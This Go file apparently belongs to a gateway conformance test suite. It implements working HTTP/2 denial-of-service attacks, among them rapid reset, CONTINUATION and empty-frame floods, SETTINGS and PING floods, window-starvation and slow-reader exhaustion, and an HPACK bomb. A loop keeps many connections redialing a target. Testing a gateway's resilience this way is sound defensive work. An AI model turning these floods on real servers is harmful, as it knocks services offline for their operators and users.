//go:build linux

package floods

import (
	"bufio"
	"bytes"
	"errors"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/yumen-io/yumen/conformance/gateway"
)

// attack is one way to cost a server more than it costs the sender. play is the life of one connection; when it returns,
// because the gateway closed it or the attack is over, another begins.
type attack struct {
	name        string
	needs       gateway.Feature
	overTLS     bool // against the TLS listener, on the bare connection before any TLS
	connections int  // at a time
	play        func(*attacker)
}

// crowd is how many connections attack at a time where each is busy, and hold where each mostly waits.
const (
	crowd = 8
	hold  = 200
)

var attacks = []attack{
	{"rapid_reset", gateway.H2CListener, false, crowd, rapidReset},
	{"made_you_reset", gateway.H2CListener, false, crowd, madeYouReset},
	{"continuation", gateway.H2CListener, false, crowd, continuation},
	{"empty_continuation", gateway.H2CListener, false, crowd, emptyContinuation},
	{"empty_data", gateway.H2CListener, false, crowd, emptyData},
	{"settings", gateway.H2CListener, false, crowd, settings},
	{"ping", gateway.H2CListener, false, crowd, ping},
	{"priority", gateway.H2CListener, false, crowd, priority},
	{"window_dribble", gateway.H2CListener, false, crowd, windowDribble},
	{"tiny_window", gateway.H2CListener, false, crowd, tinyWindow},
	{"slow_reader", gateway.H2CListener, false, crowd, slowReader},
	{"hpack_bomb", gateway.H2CListener, false, crowd, hpackBomb},
	{"cookie_crumbs", gateway.H2CListener, false, crowd, cookieCrumbs},
	{"half_preface", gateway.H2CListener, false, hold, halfPreface},
	{"half_hello", gateway.TLSListener, true, hold, halfHello},
	{"hello_flood", gateway.TLSListener, true, crowd, helloFlood},
}

// rage keeps the attack's connections busy until it is told to stop.
func (a *attack) rage(victim string, over <-chan struct{}) harm {
	var sum struct{ connections, closed, frames atomic.Int64 }
	var live struct {
		sync.Mutex
		conns map[net.Conn]bool // nil: over
	}
	live.conns = map[net.Conn]bool{}
	var ended sync.WaitGroup
	for range a.connections {
		ended.Go(func() {
			for {
				c, err := net.DialTimeout("tcp", victim, time.Second)
				if err != nil {
					select {
					case <-over:
						return
					case <-time.After(10 * time.Millisecond): // refused: a victim that is busy is what we want
						continue
					}
				}
				live.Lock()
				if live.conns == nil {
					live.Unlock()
					c.Close()
					return
				}
				live.conns[c] = true
				live.Unlock()
				sum.connections.Add(1)
				one := newAttacker(c)
				a.play(one)
				c.Close()
				sum.frames.Add(one.frames)
				live.Lock()
				if live.conns != nil {
					sum.closed.Add(1) // by the victim: nothing else ends a play
					delete(live.conns, c)
				}
				live.Unlock()
			}
		})
	}
	<-over
	live.Lock()
	for c := range live.conns {
		c.Close()
	}
	live.conns = nil
	live.Unlock()
	ended.Wait()
	return harm{sum.connections.Load(), sum.closed.Load(), sum.frames.Load()}
}

// attacker is one connection of an attack. Writes are gathered, as an attacker would; the first error of one ends it.
type attacker struct {
	conn   net.Conn
	out    *bufio.Writer
	framer *http2.Framer
	block  bytes.Buffer
	hpack  *hpack.Encoder
	stream uint32 // the next one
	frames int64
}

func newAttacker(c net.Conn) *attacker {
	a := &attacker{conn: c, out: bufio.NewWriterSize(c, 16<<10), stream: 1}
	a.framer = http2.NewFramer(a.out, c)
	a.framer.AllowIllegalWrites = true
	a.hpack = hpack.NewEncoder(&a.block)
	return a
}

// greet sends the preface and our settings.
func (a *attacker) greet(s ...http2.Setting) error {
	if _, err := io.WriteString(a.out, http2.ClientPreface); err != nil {
		return err
	}
	return errors.Join(a.framer.WriteSettings(s...), a.framer.WriteSettingsAck(), a.out.Flush())
}

// listen throws away what comes, so that the victim can always write. Without it the victim's answers pile up.
func (a *attacker) listen() { go func() { _, _ = io.Copy(io.Discard, a.conn) }() }

// fields is a header block for a request, with more fields behind it.
func (a *attacker) fields(method, path string, more ...hpack.HeaderField) []byte {
	a.block.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path}, {Name: ":authority", Value: "exam.test"},
	}, more...) {
		_ = a.hpack.WriteField(f) // a bytes.Buffer takes every write
	}
	return a.block.Bytes()
}

// open sends a request's HEADERS and says which stream it got. At the end of the numbers the connection is done.
func (a *attacker) open(block []byte, endStream bool) (stream uint32, err error) {
	if a.stream > 1<<30 {
		return 0, io.EOF
	}
	stream = a.stream
	a.stream += 2
	a.frames++
	return stream, a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true, EndStream: endStream})
}

// repeat sends frames until one cannot be sent.
func (a *attacker) repeat(send func() error) {
	for send() == nil {
		a.frames++
	}
}

// await holds the connection until the victim ends it.
func (a *attacker) await() {
	_ = a.out.Flush()
	_, _ = io.Copy(io.Discard, a.conn)
}

// CVE-2023-44487: each request is cancelled at once, so that no limit on open streams is ever reached.
func rapidReset(a *attacker) {
	a.listen()
	if a.greet() != nil {
		return
	}
	a.repeat(func() error {
		stream, err := a.open(a.fields("GET", "/"), true)
		if err != nil {
			return err
		}
		return a.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

// CVE-2025-8671: the same, but the victim is made to do the resetting.
func madeYouReset(a *attacker) {
	a.listen()
	if a.greet() != nil {
		return
	}
	a.repeat(func() error {
		stream, err := a.open(a.fields("GET", "/"), true)
		if err != nil {
			return err
		}
		return a.framer.WriteRawFrame(http2.FrameWindowUpdate, 0, stream, []byte{0, 0, 0, 0})
	})
}

// CVE-2024-27316: a header block that never ends, full of fields.
func continuation(a *attacker) {
	a.listen()
	if a.greet() != nil {
		return
	}
	filler := a.fields("GET", "/", hpack.HeaderField{Name: "x-filler", Value: strings.Repeat("f", 12<<10), Sensitive: true})
	if a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: filler, EndStream: true}) != nil {
		return
	}
	a.block.Reset()
	_ = a.hpack.WriteField(hpack.HeaderField{Name: "x-more", Value: strings.Repeat("m", 12<<10), Sensitive: true})
	a.repeat(func() error { return a.framer.WriteContinuation(1, false, a.block.Bytes()) })
}

// The same with nothing in them: no byte limit is ever reached.
func emptyContinuation(a *attacker) {
	a.listen()
	if a.greet() != nil {
		return
	}
	if a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.fields("GET", "/"), EndStream: true}) != nil {
		return
	}
	a.repeat(func() error { return a.framer.WriteContinuation(1, false, nil) })
}

// CVE-2019-9518: frames without content on an open stream.
func emptyData(a *attacker) {
	a.listen()
	if a.greet() != nil {
		return
	}
	stream, err := a.open(a.fields("POST", "/"), false)
	if err != nil {
		return
	}
	a.repeat(func() error { return a.framer.WriteData(stream, false, nil) })
}

// CVE-2019-9515: each wants an acknowledgement, and nobody reads them.
func settings(a *attacker) {
	if a.greet() != nil {
		return
	}
	a.repeat(func() error {
		return a.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})
}

// CVE-2019-9512: the same with PING.
func ping(a *attacker) {
	if a.greet() != nil {
		return
	}
	a.repeat(func() error { return a.framer.WritePing(false, [8]byte{1}) })
}

// CVE-2019-9513: a tree of priorities that changes all the time, for streams that do not exist.
func priority(a *attacker) {
	a.listen()
	if a.greet() != nil {
		return
	}
	var n uint32
	a.repeat(func() error {
		n++
		return a.framer.WritePriority(n%100000*2+1, http2.PriorityParam{StreamDep: (n*7)%1000*2 + 2, Weight: uint8(n)})
	})
}

// Window updates of one byte, each of which may make the victim look for something to send.
func windowDribble(a *attacker) {
	a.listen()
	if a.greet(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}) != nil {
		return
	}
	stream, err := a.open(a.fields("GET", "/large"), true)
	if err != nil {
		return
	}
	a.repeat(func() error {
		return errors.Join(a.framer.WriteWindowUpdate(0, 1), a.framer.WriteWindowUpdate(stream, 1))
	})
}

// CVE-2019-9511: many long answers, taken a byte at a time, each byte a frame.
func tinyWindow(a *attacker) {
	const streams = 100
	a.listen()
	if a.greet(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}) != nil {
		return
	}
	var opened []uint32
	for range streams {
		stream, err := a.open(a.fields("GET", "/large"), true)
		if err != nil {
			return
		}
		opened = append(opened, stream)
	}
	n := 0
	a.repeat(func() error {
		n++
		return a.framer.WriteWindowUpdate(opened[n%streams], 1)
	})
}

// CVE-2019-9517: windows wide open, and a socket that is never read. What waits for us is the victim's to hold.
func slowReader(a *attacker) {
	const streams = 100
	if a.greet(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}) != nil || a.framer.WriteWindowUpdate(0, 1<<30) != nil {
		return
	}
	for range streams {
		if _, err := a.open(a.fields("GET", "/large"), true); err != nil {
			return
		}
	}
	if a.out.Flush() != nil {
		return
	}
	// A byte now and then is all it takes to see that the victim has given up.
	one := make([]byte, 1)
	for {
		if _, err := a.conn.Read(one); err != nil {
			return
		}
		<-time.After(50 * time.Millisecond)
	}
}

// CVE-2016-1544: one long field in the table, and then a byte for each time it is meant again.
func hpackBomb(a *attacker) {
	const fieldBytes, times = 3900, 15000
	a.listen()
	if a.greet() != nil {
		return
	}
	planted := a.fields("GET", "/", hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", fieldBytes)})
	if _, err := a.open(planted, true); err != nil {
		return
	}
	// The newest entry of the dynamic table is number 62.
	bomb := append(bytes.Clone(a.fields("GET", "/")), bytes.Repeat([]byte{0x80 | 62}, times)...)
	a.repeat(func() error {
		_, err := a.open(bomb, true)
		return err
	})
}

// A cookie in thousands of crumbs: HTTP/2 lets them be apart, HTTP/1 wants them joined.
func cookieCrumbs(a *attacker) {
	const crumbs = 4000
	a.listen()
	if a.greet() != nil {
		return
	}
	first := a.fields("GET", "/", hpack.HeaderField{Name: "cookie", Value: "a=b"})
	if _, err := a.open(first, true); err != nil {
		return
	}
	jar := append(bytes.Clone(a.fields("GET", "/")), bytes.Repeat([]byte{0x80 | 62}, crumbs)...)
	a.repeat(func() error {
		_, err := a.open(jar, true)
		return err
	})
}

// A client that begins and never goes on.
func halfPreface(a *attacker) {
	_, _ = io.WriteString(a.out, http2.ClientPreface[:len(http2.ClientPreface)/2])
	a.frames++
	a.await()
}
